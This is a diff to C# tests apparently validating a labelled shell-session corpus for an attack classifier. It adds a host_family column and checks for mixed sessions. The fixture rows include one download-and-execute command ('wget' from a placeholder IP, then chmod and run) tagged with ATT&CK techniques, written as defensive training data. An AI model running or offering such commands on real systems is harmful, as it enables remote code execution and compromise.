@@ -11,7 +11,7 @@ namespace AttackClassifier.Tests.Data;
 /// data/SESSIONS.md makes. Every check is also run on a deliberately broken copy, so a check that cannot fail fails.</summary>
 public class SessionCorpusTests
 {
-    internal const string Header = "session_id,split,family,source,host,user,timestamp,command_index,command,statement_index,statement,tactic,technique";
+    internal const string Header = "session_id,split,family,source,host,user,timestamp,command_index,command,statement_index,statement,tactic,technique,host_family";
 
     private static string PathOf(string platform) => Path.Combine(AppContext.BaseDirectory, "data", $"sessions-{platform}.csv");
 
@@ -61,13 +61,13 @@ public class SessionCorpusTests
             string family = s == 0 ? test : train;
             string id = $"lin-{s:D5}";
             string p = $"{id},{split[family]},{family},handwritten,web-01,root,";
-            sb.Append(p).Append("2026-01-05T10:00:00.000Z,0,cat /proc/cpuinfo | grep name | wc -l,0,cat /proc/cpuinfo,discovery,T1082\n");
-            sb.Append(p).Append("2026-01-05T10:00:00.000Z,0,cat /proc/cpuinfo | grep name | wc -l,1,grep name,discovery,T1082\n");
-            sb.Append(p).Append("2026-01-05T10:00:00.000Z,0,cat /proc/cpuinfo | grep name | wc -l,2,wc -l,discovery,T1082\n");
-            sb.Append(p).Append("2026-01-05T10:00:02.500Z,1,\"wget http://192.0.2.7/x; chmod +x x; ./x\",0,wget http://192.0.2.7/x,command-and-control,T1105\n");
-            sb.Append(p).Append("2026-01-05T10:00:02.500Z,1,\"wget http://192.0.2.7/x; chmod +x x; ./x\",1,chmod +x x,execution,T1059.004\n");
-            sb.Append(p).Append("2026-01-05T10:00:02.500Z,1,\"wget http://192.0.2.7/x; chmod +x x; ./x\",2,./x,execution,T1059.004\n");
-            sb.Append(p).Append("2026-01-05T10:00:09.000Z,2,ls -la,0,ls -la,benign,\n");
+            sb.Append(p).Append("2026-01-05T10:00:00.000Z,0,cat /proc/cpuinfo | grep name | wc -l,0,cat /proc/cpuinfo,discovery,T1082,\n");
+            sb.Append(p).Append("2026-01-05T10:00:00.000Z,0,cat /proc/cpuinfo | grep name | wc -l,1,grep name,discovery,T1082,\n");
+            sb.Append(p).Append("2026-01-05T10:00:00.000Z,0,cat /proc/cpuinfo | grep name | wc -l,2,wc -l,discovery,T1082,\n");
+            sb.Append(p).Append("2026-01-05T10:00:02.500Z,1,\"wget http://192.0.2.7/x; chmod +x x; ./x\",0,wget http://192.0.2.7/x,command-and-control,T1105,\n");
+            sb.Append(p).Append("2026-01-05T10:00:02.500Z,1,\"wget http://192.0.2.7/x; chmod +x x; ./x\",1,chmod +x x,execution,T1059.004,\n");
+            sb.Append(p).Append("2026-01-05T10:00:02.500Z,1,\"wget http://192.0.2.7/x; chmod +x x; ./x\",2,./x,execution,T1059.004,\n");
+            sb.Append(p).Append("2026-01-05T10:00:09.000Z,2,ls -la,0,ls -la,benign,,\n");
         }
         return sb.ToString();
     }
@@ -94,20 +94,22 @@ public class SessionCorpusTests
 
     public static TheoryData<string, string, string> Breakages => new()
     {
-        { "statement,tactic,technique\n", "statement,technique,tactic\n", "line 1: header" },
-        { ",discovery,T1082\n", ",discoverie,T1082\n", "not an ATT&CK tactic shortname" },
-        { ",discovery,T1082\n", ",execution,T1082\n", "does not serve" },
-        { ",execution,T1059.004\n", ",defense-evasion,T1059.004\n", "does not serve" },
-        { ",discovery,T1082\n", ",discovery,T9999\n", "not in the catalog" },
-        { ",benign,\n", ",benign,T1082\n", "benign statement carries technique" },
-        { ",discovery,T1082\n", ",discovery,\n", "without a technique" },
+        { "statement,tactic,technique,host_family\n", "statement,technique,tactic,host_family\n", "line 1: header" },
+        { ",discovery,T1082,\n", ",discoverie,T1082,\n", "not an ATT&CK tactic shortname" },
+        { ",discovery,T1082,\n", ",execution,T1082,\n", "does not serve" },
+        { ",execution,T1059.004,\n", ",defense-evasion,T1059.004,\n", "does not serve" },
+        { ",discovery,T1082,\n", ",discovery,T9999,\n", "not in the catalog" },
+        { ",benign,,\n", ",benign,T1082,\n", "benign statement carries technique" },
+        { ",discovery,T1082,\n", ",discovery,,\n", "without a technique" },
         { ",0,cat /proc/cpuinfo,", ",0,cat /proc/cpuinfo | grep name,", "is not the splitter's" },
         { ",1,grep name,", ",1,grep  name,", "is not the splitter's" },
         { "T10:00:09.000Z", "T09:59:59.000Z", "earlier than the previous command" },
         { "T10:00:09.000Z", "10:00:09", "is not ISO-8601 UTC" },
         { ",2,ls -la,0,", ",3,ls -la,0,", "command_index 3 follows 1" },
         { ",handwritten,web-01,", ",handwriten,web-01,", "source 'handwriten'" },
-        { ",web-01,root,", ",web-01root,", "12 fields" },
+        { ",web-01,root,", ",web-01root,", "13 fields" },
+        { ",benign,,\n", ",benign,,admin-x\n", "host_family on a handwritten session" },
+        { ",handwritten,web-01,", ",mixed,web-01,", "of a mixed session is not a benign family" },
         { "web-01,root,2026-01-05T10:00:00.000Z,0,cat /proc/cpuinfo | grep name | wc -l,1,", "web-02,root,2026-01-05T10:00:00.000Z,0,cat /proc/cpuinfo | grep name | wc -l,1,", "host or user" },
         { "T10:00:00.000Z,0,cat /proc/cpuinfo | grep name | wc -l,1,", "T10:00:01.000Z,0,cat /proc/cpuinfo | grep name | wc -l,1,", "different timestamps" },
         { ",0,cat /proc/cpuinfo | grep name | wc -l,1,grep name,", ",0,cat /proc/cpuinfo | grep name  | wc -l,1,grep name,", "different command text" },
@@ -151,7 +153,7 @@ public class SessionCorpusTests
     public void A_missing_statement_row_is_reported()
     {
         string[] lines = Good().TrimEnd('\n').Split('\n');
-        Assert.EndsWith(",wc -l,discovery,T1082", lines[3], StringComparison.Ordinal);
+        Assert.EndsWith(",wc -l,discovery,T1082,", lines[3], StringComparison.Ordinal);
         SessionCorpusCheck.Run(string.Join('\n', lines.Where((_, i) => i != 3)) + "\n", "broken", out List<string> problems);
         Assert.Contains(problems, p => p.Contains("has 2 statement rows, the splitter gives 3", StringComparison.Ordinal));
     }
@@ -211,6 +213,7 @@ internal static class SessionCorpusCheck
         var handwritten = new HashSet<string>(StringComparer.Ordinal);
         var sources = new HashSet<string>(StringComparer.Ordinal);
         var perTactic = new Dictionary<string, int>(StringComparer.Ordinal);
+        var hostFamilies = new List<(long Line, string Family, string Split)>();
         int sessions = 0, testSessions = 0, statements = 0;
 
         // The session being read and the command being read.
@@ -234,13 +237,16 @@ internal static class SessionCorpusCheck
         {
             long line = reader.RecordLine;
             statements++;
-            if (fields.Count != 13) { Problem(line, $"{fields.Count} fields, expected 13"); continue; }
+            if (fields.Count != 14) { Problem(line, $"{fields.Count} fields, expected 14"); continue; }
             string id = fields[0], split = fields[1], family = fields[2], src = fields[3], host = fields[4], user = fields[5];
-            string stamp = fields[6], commandText = fields[8], statement = fields[10], tactic = fields[11], technique = fields[12];
+            string stamp = fields[6], commandText = fields[8], statement = fields[10], tactic = fields[11], technique = fields[12], hostFamily = fields[13];
 
             if (!s_splits.Contains(split)) Problem(line, $"split '{split}' is not train or test");
             if (!s_sources.Contains(src)) Problem(line, $"source '{src}' is not one of {string.Join(", ", s_sources)}");
             if (family.Length == 0) Problem(line, "empty family");
+            // A mixed session names the benign family of its host activity, which must be of its own split (checked at the end).
+            if (src == "mixed") hostFamilies.Add((line, hostFamily, split));
+            else if (hostFamily.Length != 0) Problem(line, $"host_family on a {src} session");
             // Mixed sessions are held out with their attacker template, so they share the hand-written group.
             string group = src == "mixed" ? "handwritten" : src;
             if (!splitsOfFamily.TryGetValue(family, out var seenHere)) splitsOfFamily[family] = seenHere = (group, line, []);
@@ -319,6 +325,11 @@ internal static class SessionCorpusCheck
             statementIndex = si + 1;
         }
         CloseCommand();
+        foreach (var (hostLine, hostFamily, hostSplit) in hostFamilies)
+            if (!splitsOfFamily.TryGetValue(hostFamily, out var benign) || benign.Group != "benign")
+                Problem(hostLine, $"host_family '{hostFamily}' of a mixed session is not a benign family");
+            else if (!benign.Splits.SetEquals([hostSplit]))
+                Problem(hostLine, $"host_family '{hostFamily}' is not of the mixed session's split {hostSplit}");
         foreach (var byGroup in splitsOfFamily.GroupBy(f => f.Value.Group, StringComparer.Ordinal))
         {
             Dictionary<string, string> rule = HeldOut(byGroup.Select(f => f.Key));
